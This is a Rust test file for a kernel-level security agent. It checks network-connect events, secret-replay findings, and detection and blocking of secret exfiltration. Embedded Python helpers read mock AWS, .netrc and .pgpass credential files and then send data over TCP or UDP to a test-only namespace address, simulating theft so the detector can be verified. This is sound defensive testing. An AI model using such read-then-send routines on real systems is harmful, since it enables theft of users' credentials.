//! Real-kernel tests of connection events, secret replay and secret
//! exfiltration (TCP, and UDP datagrams connected or sent with sendto).
//! Traffic goes to loopback and to a network namespace the test
//! creates (198.18.77.0/24, from the benchmarking range, exists only inside it).
//! Enforcement is checked in the form this kernel allows (BPF LSM or not).

use std::{os::unix::process::CommandExt, path::Path, process::Command, sync::OnceLock};

use crate::harness::*;
use serde_json::Value;

struct Fixture {
    agent: AgentProc,
    home: tempfile::TempDir,
    home2: tempfile::TempDir,
    _state: tempfile::TempDir,
    owner_cat: std::path::PathBuf,
}

fn fixture() -> &'static Fixture {
    static F: OnceLock<Fixture> = OnceLock::new();
    F.get_or_init(|| {
        let home = tempfile::tempdir().unwrap();
        let home2 = tempfile::tempdir().unwrap();
        let state = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(home.path().join(".aws")).unwrap();
        std::fs::create_dir_all(home2.path().join(".aws")).unwrap();
        std::fs::write(home.path().join(".pgpass"), "db:5432:app:app:pgsecret\n").unwrap();
        let owner_cat = home.path().join("owner-cat");
        copy_exe("/bin/cat", &owner_cat);
        let config = format!(
            // The syscall file hook set: these tests write secrets after the
            // agent started and read them at once; the page-cache set sees a
            // new file only from the next rescan (docs/security-model.md).
            "status_interval: 1s\n{TEST_METRICS}\
             state_dir: {state}\n\
             kernel:\n  file_hooks: syscall\n\
             secrets:\n  extra_homes: [{h1}, {h2}]\n  search_dirs: []\n  rules:\n\
             \x20   - secret: {{id: netrc}}\n\
             \x20     allowed_destinations: [\"198.18.77.2/32:8080\"]\n\
             \x20     enforce: [block-egress]\n\
             \x20   - secret: {{id: pgpass}}\n\
             \x20     owners: [{{exe_path: {owner}}}]\n\
             \x20     enforce: [kill]\n",
            state = state.path().display(),
            h1 = home.path().display(),
            h2 = home2.path().display(),
            owner = owner_cat.display(),
        );
        Fixture {
            agent: AgentProc::start(&config),
            home,
            home2,
            _state: state,
            owner_cat,
        }
    })
}

const PY: &str = PYTHON3;

const CONNECT_PY: &str = r#"
import socket, sys, time
kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
fam = {"tcp": socket.AF_INET, "tcp6": socket.AF_INET6}.get(kind, socket.AF_UNIX)
s = socket.socket(fam, socket.SOCK_STREAM)
if len(sys.argv) > 4 and sys.argv[4] == "nonblock":
    s.setblocking(False)
try:
    s.connect(host if fam == socket.AF_UNIX else (host, port))
except (BlockingIOError, OSError):
    pass
time.sleep(0.3)
"#;

/// Runs the connect helper with `m` as argv[0].
fn connect(m: &str, kind: &str, host: &str, port: u16, extra: &[&str]) {
    run(Command::new(PY)
        .arg0(m)
        .args(["-c", CONNECT_PY, kind, host, &port.to_string()])
        .args(extra));
}

fn net_event(agent: &AgentProc, m: &str) -> Value {
    agent.wait_for(|e| e["kind"] == "net_connect" && has_arg(e, m))
}

#[test]
fn tcp_ipv6_unix_and_nonblocking_connects_with_results() {
    let f = fixture();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    let m = marker("tcp-ok");
    connect(&m, "tcp", "127.0.0.1", port, &[]);
    let ev = net_event(&f.agent, &m);
    let n = &ev["net"];
    assert_eq!(n["family"], "inet");
    assert_eq!(n["protocol"], "tcp");
    assert_eq!(n["dst_ip"], "127.0.0.1");
    assert_eq!(n["dst_port"], port);
    assert_eq!(n["result"], "success");

    // A closed port: bind one, learn its number, close it.
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let m = marker("tcp-refused");
    connect(&m, "tcp", "127.0.0.1", closed, &[]);
    let ev = net_event(&f.agent, &m);
    assert_eq!(ev["net"]["result"], "refused");
    assert_eq!(ev["net"]["errno"], libc::ECONNREFUSED);

    let l6 = std::net::TcpListener::bind("[::1]:0").unwrap();
    let m = marker("tcp6");
    connect(&m, "tcp6", "::1", l6.local_addr().unwrap().port(), &[]);
    let ev = net_event(&f.agent, &m);
    assert_eq!(ev["net"]["family"], "inet6");
    assert_eq!(ev["net"]["dst_ip"], "::1");
    assert_eq!(ev["net"]["result"], "success");

    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("s.sock");
    let _ul = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let m = marker("unix");
    connect(&m, "unix", sock.to_str().unwrap(), 0, &[]);
    let ev = net_event(&f.agent, &m);
    assert_eq!(ev["net"]["family"], "unix");
    assert_eq!(ev["net"]["dst_path"], sock.to_str().unwrap());
    assert_eq!(ev["net"]["result"], "success");

    let m = marker("nonblock-ok");
    connect(&m, "tcp", "127.0.0.1", port, &["nonblock"]);
    let ev = net_event(&f.agent, &m);
    assert_eq!(ev["net"]["result"], "success", "{ev}");
    assert_eq!(ev["net"]["async_result"], true);
    let m = marker("nonblock-refused");
    connect(&m, "tcp", "127.0.0.1", closed, &["nonblock"]);
    let ev = net_event(&f.agent, &m);
    assert_eq!(ev["net"]["result"], "refused", "{ev}");
    assert_eq!(ev["net"]["async_result"], true);
    drop(listener);
}

#[test]
fn repeated_connects_are_reported_once_and_counted() {
    let f = fixture();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let before = f.agent.status_after(f.agent.last_seq());
    let m = marker("repeat");
    let script = format!(
        "import socket\nfor _ in range(20):\n    s = socket.create_connection(('127.0.0.1', {port}))\n    s.close()\n"
    );
    run(Command::new(PY).arg0(&m).args(["-c", &script]));
    net_event(&f.agent, &m);
    let after = f.agent.status_after(f.agent.last_seq());
    let after = f.agent.status_after(after["seq"].as_u64().unwrap());
    let count = f
        .agent
        .events()
        .iter()
        .filter(|e| e["kind"] == "net_connect" && has_arg(e, &m))
        .count();
    assert_eq!(count, 1);
    let dedup = |s: &Value| {
        s["status"]["kernel"]["sent"]["connect_deduplicated"]
            .as_u64()
            .unwrap()
    };
    assert!(dedup(&after) - dedup(&before) >= 19);
}

fn secret_content(tag: &str) -> String {
    format!("[default]\naws_access_key_id = AKIAQ{tag}\naws_secret_access_key = k{tag}\n")
}

#[test]
fn second_binary_on_the_same_secret_is_a_replay_once() {
    let f = fixture();
    let tag = marker("replay").replace('-', "");
    let content = secret_content(&tag);
    let first = f.home.path().join(".aws/credentials");
    std::fs::write(&first, &content).unwrap();
    let m1 = marker("replay-cat");
    run(Command::new("/bin/cat").arg(&first).arg0(&m1));
    let read = f.agent.wait_for(|e| {
        e["kind"] == "finding" && e["finding"]["rule"] == "secret-read" && has_arg(e, &m1)
    });
    let fp = read["finding"]["secret"]["fingerprint"]
        .as_str()
        .unwrap()
        .to_string();

    // The same secret copied elsewhere (written, not read, by this process).
    let copy = f.home2.path().join(".aws/credentials");
    std::fs::write(&copy, &content).unwrap();
    let m2 = marker("replay-dd");
    for _ in 0..2 {
        run(Command::new("/bin/dd")
            .arg(format!("if={}", copy.display()))
            .arg("of=/dev/null")
            .arg0(&m2));
    }
    let replay = f.agent.wait_for(|e| {
        e["kind"] == "finding" && e["finding"]["rule"] == "secret-replay" && has_arg(e, &m2)
    });
    let r = &replay["finding"];
    assert_eq!(r["secret"]["fingerprint"], fp.as_str());
    let cat = resolve("/bin/cat");
    let dd = resolve("/bin/dd");
    let ids = r["evidence"]["identities"].as_array().unwrap();
    assert_eq!(ids.len(), 2, "{replay}");
    assert!(ids[0].as_str().unwrap().contains(&sha256_file(&cat)));
    assert!(ids[1].as_str().unwrap().contains(&sha256_file(&dd)));
    assert!(r["summary"]
        .as_str()
        .unwrap()
        .contains(cat.to_str().unwrap()));
    // Exactly one, although dd read it twice.
    f.agent.status_after(f.agent.last_seq());
    let n = f
        .agent
        .events()
        .iter()
        .filter(|e| {
            e["finding"]["rule"] == "secret-replay"
                && e["finding"]["secret"]["fingerprint"] == fp.as_str()
        })
        .count();
    assert_eq!(n, 1);
}

const READ_THEN_CONNECT_PY: &str = r#"
import socket, sys
open(sys.argv[1]).read()
s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)
s.close()
"#;

fn read_then_connect(m: &str, secret: &Path, port: u16) {
    run(Command::new(PY).arg0(m).args([
        "-c",
        READ_THEN_CONNECT_PY,
        secret.to_str().unwrap(),
        "198.18.77.2",
        &port.to_string(),
    ]));
}

#[test]
fn secret_read_then_connect_outside_allowed_is_exfiltration() {
    let f = fixture();
    let mut net = TestNet::new();
    net.listen(8080);
    net.listen(9090);

    // No rule for the AWS credentials: default allowed networks exclude 198.18.0.0/15.
    let tag = marker("exfil").replace('-', "");
    let aws = f.home.path().join(".aws/credentials");
    std::fs::write(&aws, secret_content(&tag)).unwrap();
    let m = marker("exfil-aws");
    read_then_connect(&m, &aws, 8080);
    let ex = f.agent.wait_for(|e| {
        e["kind"] == "finding" && e["finding"]["rule"] == "secret-exfil" && has_arg(e, &m)
    });
    assert_eq!(ex["finding"]["secret"]["id"], "aws-cli-credentials");
    assert_eq!(
        ex["finding"]["evidence"]["destinations"][0],
        "198.18.77.2:8080"
    );
    // It rests on the net_connect event right before it.
    let seq = ex["finding"]["evidence"]["event_seqs"][0].as_u64().unwrap();
    let conn = f.agent.wait_for(|e| e["seq"] == seq);
    assert_eq!(conn["kind"], "net_connect");
    assert_eq!(conn["net"]["dst_ip"], "198.18.77.2");

    // .netrc may go to 198.18.77.2:8080 (policy), not to :9090.
    let netrc = f.home.path().join(".netrc");
    std::fs::write(
        &netrc,
        format!("machine example.invalid login u password {tag}\n"),
    )
    .unwrap();
    let ok = marker("exfil-allowed");
    read_then_connect(&ok, &netrc, 8080);
    let bad = marker("exfil-denied");
    read_then_connect(&bad, &netrc, 9090);
    f.agent.wait_for(|e| {
        e["kind"] == "finding"
            && e["finding"]["rule"] == "secret-exfil"
            && has_arg(e, &bad)
            && e["finding"]["secret"]["id"] == "netrc"
    });
    // The allowed one connected (its net_connect is there) and raised nothing.
    net_event(&f.agent, &ok);
    f.agent.status_after(f.agent.last_seq());
    assert!(!f
        .agent
        .events()
        .iter()
        .any(|e| e["finding"]["rule"] == "secret-exfil" && has_arg(e, &ok)));
}

/// Whether this kernel runs the BPF LSM (`lsm=...,bpf`): then forbidden
/// opens are refused by the LSM hook, else the open tracepoint kills.
fn bpf_lsm_active() -> bool {
    std::fs::read_to_string("/sys/kernel/security/lsm")
        .is_ok_and(|l| l.trim().split(',').any(|m| m == "bpf"))
}

#[test]
fn kill_stops_a_forbidden_reader_before_it_gets_any_byte() {
    use std::os::unix::process::ExitStatusExt;
    let f = fixture();
    let pgpass = f.home.path().join(".pgpass");
    let lsm = bpf_lsm_active();
    let started = f
        .agent
        .wait_for(|e| e["kind"] == "agent_status" && e["status"]["state"] == "started");
    // The enforcement and hook set chosen for this kernel's LSM list.
    let (enforcement, file_open) = if lsm {
        ("lsm-deny", "tracepoint+lsm")
    } else {
        ("tracepoint-sigkill", "tracepoint")
    };
    assert_eq!(
        started["status"]["kill_enforcement"], enforcement,
        "{started}"
    );
    let hooks = &started["status"]["hook_set"];
    assert_eq!(hooks["file_open"], file_open, "{started}");
    assert_eq!(hooks["exec"], "tp_btf", "{started}");
    assert_eq!(hooks["connect"], "tracepoint+cgroup", "{started}");
    assert_eq!(hooks["egress"], "cgroup", "{started}");
    assert_eq!(hooks["datagram"], "cgroup", "{started}");
    assert_eq!(hooks["io_uring"], "tp_btf", "{started}");
    let m = marker("killed");
    let out = Command::new("/bin/cat")
        .arg(&pgpass)
        .arg0(&m)
        .output()
        .unwrap();
    if lsm {
        // Refused by the LSM hook: the open fails, the reader lives on.
        assert_eq!(out.status.signal(), None, "{:?}", out.status);
        assert_eq!(out.status.code(), Some(1), "{:?}", out.status);
    } else {
        assert_eq!(out.status.signal(), Some(libc::SIGKILL), "{:?}", out.status);
    }
    assert!(
        out.stdout.is_empty(),
        "the forbidden reader printed {} bytes",
        out.stdout.len()
    );
    let ev = f.agent.wait_for(|e| {
        e["kind"] == "finding" && e["finding"]["rule"] == "secret-read" && has_arg(e, &m)
    });
    assert_eq!(
        ev["finding"]["action"],
        if lsm { "denied" } else { "killed" },
        "{ev}"
    );
    let exit = f
        .agent
        .wait_for(|e| e["kind"] == "process_exit" && has_arg(e, &m));
    if lsm {
        assert_eq!(exit["exit"]["code"], 1, "{exit}");
    } else {
        assert_eq!(exit["exit"]["signal"], libc::SIGKILL, "{exit}");
    }

    // The owner reads it.
    let out = Command::new(&f.owner_cat).arg(&pgpass).output().unwrap();
    assert!(out.status.success());
    assert_eq!(out.stdout, b"db:5432:app:app:pgsecret\n");
}

const EXFIL_THEN_RETRY_PY: &str = r#"
import socket, sys, time
open(sys.argv[1]).read()
socket.create_connection(("198.18.77.2", 9090), timeout=5).close()
deadline = time.time() + 15
while time.time() < deadline:
    try:
        socket.create_connection(("198.18.77.2", 8080), timeout=5).close()
    except PermissionError:
        print("EPERM")
        sys.exit(0)
    time.sleep(0.1)
print("never blocked")
sys.exit(1)
"#;

#[test]
fn block_egress_cuts_off_the_exfiltrating_process_only() {
    let f = fixture();
    let mut net = TestNet::new();
    net.listen(8080);
    net.listen(9090);
    let netrc = f.home.path().join(".netrc");
    std::fs::write(
        &netrc,
        "machine example.invalid login u password blocked1\n",
    )
    .unwrap();
    let m = marker("egress");
    let out = Command::new(PY)
        .arg0(&m)
        .args(["-c", EXFIL_THEN_RETRY_PY, netrc.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "EPERM",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ex = f.agent.wait_for(|e| {
        e["kind"] == "finding" && e["finding"]["rule"] == "secret-exfil" && has_arg(e, &m)
    });
    assert_eq!(ex["finding"]["action"], "egress_blocked");
    f.agent.wait_for(|e| {
        e["kind"] == "net_connect" && has_arg(e, &m) && e["net"]["result"] == "denied"
    });
    // Everyone else still connects.
    std::net::TcpStream::connect(("198.18.77.2", 8080)).expect("an unquarantined process connects");
}

/// Reads the secret, sends one datagram with `sendto` (no connect), then
/// keeps sending until block-egress refuses one (EPERM) or 15 s pass.
const READ_THEN_SENDTO_PY: &str = r#"
import socket, sys, time
open(sys.argv[1]).read()
dst = ("198.18.77.2", int(sys.argv[2]))
tag = sys.argv[3]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"first-" + tag.encode(), dst)
if sys.argv[4] == "once":
    print("sent")
    sys.exit(0)
deadline = time.time() + 15
n = 0
while time.time() < deadline:
    n += 1
    try:
        s.sendto(("after-%s-%d" % (tag, n)).encode(), dst)
    except PermissionError:
        print("EPERM after-%s-%d" % (tag, n))
        sys.exit(0)
    time.sleep(0.1)
print("never blocked")
sys.exit(1)
"#;

fn read_then_sendto(m: &str, secret: &Path, port: u16, tag: &str, mode: &str) -> String {
    let out = Command::new(PY)
        .arg0(m)
        .args(["-c", READ_THEN_SENDTO_PY, secret.to_str().unwrap()])
        .args([&port.to_string(), tag, mode])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn udp_sendto_after_a_secret_read_is_exfiltration_and_block_egress_drops_the_datagram() {
    let f = fixture();
    let mut net = TestNet::new();
    let dir = tempfile::tempdir().unwrap();
    let allowed_log = net.listen_udp(8080, dir.path());
    let outside_log = net.listen_udp(9090, dir.path());
    let netrc = f.home.path().join(".netrc");
    std::fs::write(&netrc, "machine example.invalid login u password udp1\n").unwrap();

    // Positive control first: the allowed destination raises nothing and arrives.
    let ok = marker("udp-allowed");
    let ok_tag = ok.replace('-', "");
    assert_eq!(read_then_sendto(&ok, &netrc, 8080, &ok_tag, "once"), "sent");
    wait_received(&allowed_log, &format!("first-{ok_tag}"));
    let ev = net_event(&f.agent, &ok);
    assert_eq!(ev["net"]["protocol"], "udp", "{ev}");
    assert_eq!(ev["net"]["operation"], "sendmsg", "{ev}");
    assert_eq!(ev["net"]["observed_by"], "socket_hook", "{ev}");
    assert_eq!(ev["net"]["dst_ip"], "198.18.77.2", "{ev}");
    assert_eq!(ev["net"]["dst_port"], 8080, "{ev}");
    assert_eq!(ev["net"]["result"], "success", "{ev}");

    // Outside the allowed destinations: secret-exfil, then quarantine.
    let bad = marker("udp-exfil");
    let tag = bad.replace('-', "");
    let said = read_then_sendto(&bad, &netrc, 9090, &tag, "until-refused");
    let refused = said
        .strip_prefix("EPERM ")
        .unwrap_or_else(|| panic!("the quarantined sender was never refused: {said}"));
    let ex = f.agent.wait_for(|e| {
        e["kind"] == "finding" && e["finding"]["rule"] == "secret-exfil" && has_arg(e, &bad)
    });
    assert_eq!(ex["finding"]["secret"]["id"], "netrc", "{ex}");
    assert_eq!(ex["finding"]["action"], "egress_blocked", "{ex}");
    assert_eq!(
        ex["finding"]["evidence"]["destinations"][0], "198.18.77.2:9090",
        "{ex}"
    );
    let seq = ex["finding"]["evidence"]["event_seqs"][0].as_u64().unwrap();
    let sent = f.agent.wait_for(|e| e["seq"] == seq);
    assert_eq!(sent["net"]["protocol"], "udp", "{sent}");
    assert_eq!(sent["net"]["operation"], "sendmsg", "{sent}");
    f.agent.wait_for(|e| {
        e["kind"] == "net_connect" && has_arg(e, &bad) && e["net"]["result"] == "denied"
    });
    // The first datagram went out before the finding; the refused one never did.
    wait_received(&outside_log, &format!("first-{tag}"));
    std::thread::sleep(std::time::Duration::from_millis(300));
    let got = received(&outside_log);
    assert!(
        !got.iter().any(|l| l == refused),
        "the refused datagram {refused} arrived: {got:?}"
    );
    f.agent.status_after(f.agent.last_seq());
    assert!(!f
        .agent
        .events()
        .iter()
        .any(|e| e["finding"]["rule"] == "secret-exfil" && has_arg(e, &ok)));
}

const READ_THEN_CONNECTED_UDP_PY: &str = r#"
import socket, sys
open(sys.argv[1]).read()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("198.18.77.2", int(sys.argv[2])))
s.send(sys.argv[3].encode())
"#;

#[test]
fn connected_udp_after_a_secret_read_is_exfiltration() {
    let f = fixture();
    let mut net = TestNet::new();
    let dir = tempfile::tempdir().unwrap();
    let log = net.listen_udp(9091, dir.path());
    let aws = f.home2.path().join(".aws/credentials");
    let tag = marker("udpconn").replace('-', "");
    std::fs::write(&aws, secret_content(&tag)).unwrap();
    let m = marker("udp-connected");
    run(Command::new(PY).arg0(&m).args([
        "-c",
        READ_THEN_CONNECTED_UDP_PY,
        aws.to_str().unwrap(),
        "9091",
        &tag,
    ]));
    wait_received(&log, &tag);
    let ex = f.agent.wait_for(|e| {
        e["kind"] == "finding" && e["finding"]["rule"] == "secret-exfil" && has_arg(e, &m)
    });
    assert_eq!(ex["finding"]["secret"]["id"], "aws-cli-credentials", "{ex}");
    let seq = ex["finding"]["evidence"]["event_seqs"][0].as_u64().unwrap();
    let conn = f.agent.wait_for(|e| e["seq"] == seq);
    assert_eq!(conn["net"]["protocol"], "udp", "{conn}");
    assert_eq!(conn["net"]["operation"], "connect", "{conn}");
    assert_eq!(conn["net"]["observed_by"], "syscall", "{conn}");
    // connect(2) is reported by the tracepoint alone, not a second time by the socket hook.
    f.agent.status_after(f.agent.last_seq());
    let hooked: Vec<Value> = f
        .agent
        .events()
        .into_iter()
        .filter(|e| {
            e["kind"] == "net_connect" && has_arg(e, &m) && e["net"]["observed_by"] == "socket_hook"
        })
        .collect();
    assert!(hooked.is_empty(), "{hooked:?}");
}
